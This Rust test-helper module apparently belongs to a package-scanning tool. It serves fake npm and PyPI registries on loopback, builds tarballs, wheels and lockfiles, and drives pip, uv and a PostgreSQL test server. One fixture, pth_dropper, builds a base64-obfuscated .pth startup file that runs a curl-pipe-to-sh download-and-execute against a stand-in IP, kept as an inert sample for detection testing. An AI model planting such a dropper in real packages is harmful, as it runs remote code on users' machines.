//! Small registries on loopback for the tests of one surface: npm packages whose
//! versions each serve a tarball, PyPI projects whose versions each serve an sdist or a
//! wheel, the customs command run against them with a private store and cache, the real
//! clients (pip, uv) and the test PostgreSQL server, and what the tests read back.

use std::path::{Path, PathBuf};
use std::process::Output;

use base64::Engine;
use serde_json::{Value, json};
use sha2::{Digest, Sha256, Sha512};

use super::loopback::Loopback;
use super::{Upstream, customs_with, root, stdout, tar_gz_of};

pub const DAY: i64 = 86_400;

/// Base time of the fixture registries, 2026-01-01: releases are placed around it (old
/// enough for any cooldown).
pub const T0: i64 = 1_767_225_600;

/// A time as registries write it (RFC 3339, UTC).
pub fn iso(t: i64) -> String {
    customs_registry::format_rfc3339(t)
}

/// Now, in seconds since the epoch.
pub fn now() -> i64 {
    i64::try_from(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs(),
    )
    .unwrap()
}

/// A file of `tests/fixtures`.
pub fn fixture(path: &str) -> Vec<u8> {
    std::fs::read(root().join("tests/fixtures").join(path)).unwrap()
}

/// npm's SRI `integrity` of some bytes.
pub fn sri(bytes: &[u8]) -> String {
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(Sha512::digest(bytes))
    )
}

/// One npm release: its version and the files besides `package.json`.
pub struct NpmRelease<'a> {
    pub version: &'a str,
    pub files: &'a [(&'a str, &'a [u8])],
}

/// Serves npm package `name` under `/npm/` with these releases (published a year apart
/// in the order given, the last one `latest`). Returns each release's tarball URL path.
pub fn npm_package(server: &Loopback, name: &str, releases: &[NpmRelease<'_>]) -> Vec<String> {
    let mut versions = serde_json::Map::new();
    let mut time = serde_json::Map::new();
    let mut paths = Vec::new();
    let start = 1_700_000_000_i64;
    for (i, r) in releases.iter().enumerate() {
        let manifest = json!({"name": name, "version": r.version, "main": "index.js"});
        let package_json = serde_json::to_vec_pretty(&manifest).unwrap();
        let mut all: Vec<(&str, &[u8])> = vec![("package.json", &package_json)];
        all.extend_from_slice(r.files);
        let tgz = tar_gz_of(&all, "package/");
        let path = format!("/npm/{name}/-/{name}-{}.tgz", r.version);
        server.route(&path, "application/octet-stream", tgz.clone());
        versions.insert(
            r.version.to_owned(),
            json!({"name": name, "version": r.version,
                   "dist": {"tarball": format!("{}{path}", server.url), "integrity": sri(&tgz)},
                   "_npmUser": {"name": "alice"}, "maintainers": [{"name": "alice"}]}),
        );
        let at = start + i64::try_from(i).unwrap() * 365 * 86_400;
        time.insert(
            r.version.to_owned(),
            json!(customs_registry::format_rfc3339(at)),
        );
        paths.push(path);
    }
    let latest = releases.last().map_or("", |r| r.version);
    let doc =
        json!({"name": name, "dist-tags": {"latest": latest}, "versions": versions, "time": time});
    server.route(
        &format!("/npm/{name}"),
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
    paths
}

/// Serves PyPI project `name` under `/simple/` (PEP 691 JSON) with one sdist per
/// version. Returns each sdist's sha256.
pub fn pypi_project(server: &Loopback, name: &str, versions: &[&str]) -> Vec<String> {
    let mut files = Vec::new();
    let mut digests = Vec::new();
    for (i, version) in versions.iter().enumerate() {
        let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
        let setup =
            format!("from setuptools import setup\nsetup(name={name:?}, version={version:?})\n");
        let body = tar_gz_of(
            &[
                ("PKG-INFO", pkg_info.as_bytes()),
                ("setup.py", setup.as_bytes()),
            ],
            &format!("{name}-{version}/"),
        );
        let file = format!("{name}-{version}.tar.gz");
        server.route(
            &format!("/files/{file}"),
            "application/octet-stream",
            body.clone(),
        );
        let digest = hex::encode(Sha256::digest(&body));
        let at = 1_700_000_000_i64 + i64::try_from(i).unwrap() * 86_400;
        files.push(json!({
            "filename": file, "url": format!("/files/{file}"),
            "hashes": {"sha256": digest},
            "upload-time": customs_registry::format_rfc3339(at),
        }));
        digests.push(digest);
    }
    let page = json!({"meta": {"api-version": "1.1"}, "name": name, "files": files});
    server.route(
        &format!("/simple/{name}/"),
        "application/vnd.pypi.simple.v1+json",
        serde_json::to_vec(&page).unwrap(),
    );
    digests
}

/// The environment that points customs at `server` (both ecosystems), with a store and
/// a cache of its own in `dir`.
pub fn env_for(server: &Loopback, dir: &Path) -> Vec<(&'static str, String)> {
    vec![
        ("npm_config_registry", format!("{}/npm/", server.url)),
        ("PIP_INDEX_URL", format!("{}/simple/", server.url)),
        (
            "CUSTOMS_STORE",
            dir.join("store.sqlite3").display().to_string(),
        ),
        ("CUSTOMS_CACHE_DIR", dir.join("cache").display().to_string()),
    ]
}

/// A test's own store and download cache, in its temporary folder.
pub fn store_and_cache(dir: &Path) -> Vec<(&'static str, String)> {
    vec![
        (
            "CUSTOMS_STORE",
            dir.join("store.sqlite3").display().to_string(),
        ),
        ("CUSTOMS_CACHE_DIR", dir.join("cache").display().to_string()),
    ]
}

/// Runs `customs ARGS` in `dir` with only `env`.
pub fn run(dir: &Path, args: &[&str], env: &[(&'static str, String)]) -> Output {
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    customs_with(dir, args, &env)
}

/// Standard error as text.
pub fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Standard output and error, for assertion messages.
pub fn both(o: &Output) -> String {
    format!("{}\nstderr: {}", stdout(o), stderr(o))
}

/// Standard output then standard error, as one text.
pub fn text(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned() + &String::from_utf8_lossy(&o.stderr)
}

/// The JSON a command printed.
pub fn json_of(o: &Output) -> Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {}", both(o)))
}

/// A package-lock.json (v3) in `dir` naming `deps` (name, version, integrity), all
/// direct.
pub fn package_lock(dir: &Path, deps: &[(&str, &str, String)]) {
    let deps: Vec<LockEntry<'_>> = deps
        .iter()
        .map(|(name, version, integrity)| LockEntry {
            name,
            version,
            integrity: integrity.clone(),
            direct: true,
            requires: None,
        })
        .collect();
    npm_lockfile(dir, &deps);
}

/// One package of a package-lock.json.
pub struct LockEntry<'a> {
    pub name: &'a str,
    pub version: &'a str,
    pub integrity: String,
    /// A dependency of the project itself.
    pub direct: bool,
    /// The packages it depends on (written as `dependencies` when given).
    pub requires: Option<&'a [&'a str]>,
}

/// A package-lock.json (v3) in `dir` naming `deps`.
pub fn npm_lockfile(dir: &Path, deps: &[LockEntry<'_>]) {
    let mut packages = serde_json::Map::new();
    let direct: serde_json::Map<String, Value> = deps
        .iter()
        .filter(|d| d.direct)
        .map(|d| (d.name.to_owned(), json!(d.version)))
        .collect();
    packages.insert(
        String::new(),
        json!({"name": "app", "version": "1.0.0", "dependencies": direct}),
    );
    for d in deps {
        let (name, version) = (d.name, d.version);
        let mut entry = json!({"version": version,
               "resolved": format!("http://127.0.0.1/npm/{name}/-/{name}-{version}.tgz"),
               "integrity": d.integrity});
        if let Some(requires) = d.requires {
            let req: serde_json::Map<String, Value> = requires
                .iter()
                .map(|r| ((*r).to_owned(), json!("*")))
                .collect();
            entry["dependencies"] = Value::Object(req);
        }
        packages.insert(format!("node_modules/{name}"), entry);
    }
    let lock =
        json!({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": packages});
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(
        dir.join("package-lock.json"),
        serde_json::to_string_pretty(&lock).unwrap(),
    )
    .unwrap();
}

/// The audited package named `name` in an audit's JSON.
pub fn package<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name)
        .unwrap_or_else(|| panic!("{name} not in {report:#}"))
}

/// Reads a path from the loopback registry (the test's own client, for setup only).
pub fn fetch(server: &impl Upstream, path: &str) -> Vec<u8> {
    use std::io::{Read, Write};
    let addr = server.url().trim_start_matches("http://");
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut all = Vec::new();
    s.read_to_end(&mut all).unwrap();
    let split = all.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
    all[split + 4..].to_vec()
}

/// The messages of a package report's findings of `rule`.
pub fn findings<'a>(v: &'a Value, rule: &str) -> Vec<&'a str> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .map(|f| f["message"].as_str().unwrap())
        .collect()
}

/// Every file under `dir` (none if it does not exist).
pub fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push(p);
            }
        }
    }
    out
}

/// A wheel of `files` with its dist-info (METADATA, WHEEL, and a consistent RECORD),
/// and its METADATA (what PEP 658 serves beside it).
pub fn wheel_and_metadata(
    name: &str,
    version: &str,
    files: &[(&str, &[u8])],
) -> (Vec<u8>, Vec<u8>) {
    let info = format!("{name}-{version}.dist-info");
    let metadata =
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: tests\n")
            .into_bytes();
    let mut all: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(p, d)| ((*p).to_owned(), d.to_vec()))
        .collect();
    all.push((format!("{info}/METADATA"), metadata.clone()));
    all.push((
        format!("{info}/WHEEL"),
        b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
    ));
    let mut record = String::new();
    for (p, d) in &all {
        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(d));
        record.push_str(&format!("{p},sha256={digest},{}\n", d.len()));
    }
    record.push_str(&format!("{info}/RECORD,,\n"));
    all.push((format!("{info}/RECORD"), record.into_bytes()));
    (super::zip(&all), metadata)
}

/// A wheel of `files` with its dist-info, as [`wheel_and_metadata`].
pub fn wheel(name: &str, version: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    wheel_and_metadata(name, version, files).0
}

/// A `.pth` start-up file (inert here: nothing scanned is run) that decodes and runs a
/// download-and-execute at every interpreter start.
pub fn pth_dropper() -> String {
    let payload = base64::engine::general_purpose::STANDARD
        .encode("import os; os.system('curl -s http://203.0.113.9/x | sh')");
    format!("import base64; exec(base64.b64decode('{payload}'))\n")
}

/// Serves a PEP 691 JSON project page for `name` at `path` listing `files`.
pub fn simple_page(server: &impl Upstream, path: &str, name: &str, files: Vec<Value>) {
    let page = json!({"meta": {"api-version": "1.1"}, "name": name, "files": files});
    server.route(
        path,
        "application/vnd.pypi.simple.v1+json",
        serde_json::to_vec(&page).unwrap(),
    );
}

/// Serves an npm package document at `path`.
pub fn npm_document(server: &impl Upstream, path: &str, doc: &Value) {
    server.route(path, "application/json", serde_json::to_vec(doc).unwrap());
}

/// uv, installed by test.sh into target/tools (or named by CUSTOMS_TEST_UV).
pub fn uv() -> PathBuf {
    std::env::var_os("CUSTOMS_TEST_UV")
        .map(PathBuf::from)
        .unwrap_or_else(|| root().join("target/tools/bin/uv"))
}

/// `pip download` of `requirement` through the proxy at `proxy` into `dir/into`, with
/// nothing of this machine's pip configuration; `extra` goes before the destination.
pub fn pip_download(
    dir: &Path,
    proxy: &str,
    requirement: &str,
    into: &str,
    extra: &[&str],
) -> Output {
    std::process::Command::new("python3")
        .args([
            "-m",
            "pip",
            "download",
            "--no-deps",
            "--no-cache-dir",
            "--disable-pip-version-check",
        ])
        .args(extra)
        .arg("-d")
        .arg(dir.join(into))
        .args(["--index-url", &format!("{proxy}/pypi/simple/"), requirement])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", dir.join("home"))
        .env("PIP_CONFIG_FILE", "/dev/null")
        .output()
        .unwrap()
}

/// A new, empty database on the test PostgreSQL server that test.sh starts.
pub fn postgres_database(tag: &str) -> String {
    let url = std::env::var("CUSTOMS_TEST_POSTGRES").expect(
        "CUSTOMS_TEST_POSTGRES names the test PostgreSQL server: run ./test.sh, which starts one",
    );
    let mut client = postgres::Client::connect(&url, postgres::NoTls).unwrap();
    let name = format!(
        "e2e_{tag}_{}_{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos()
    );
    client
        .batch_execute(&format!("CREATE DATABASE {name}"))
        .unwrap();
    let (base, _) = url.rsplit_once('/').unwrap();
    format!("{base}/{name}")
}
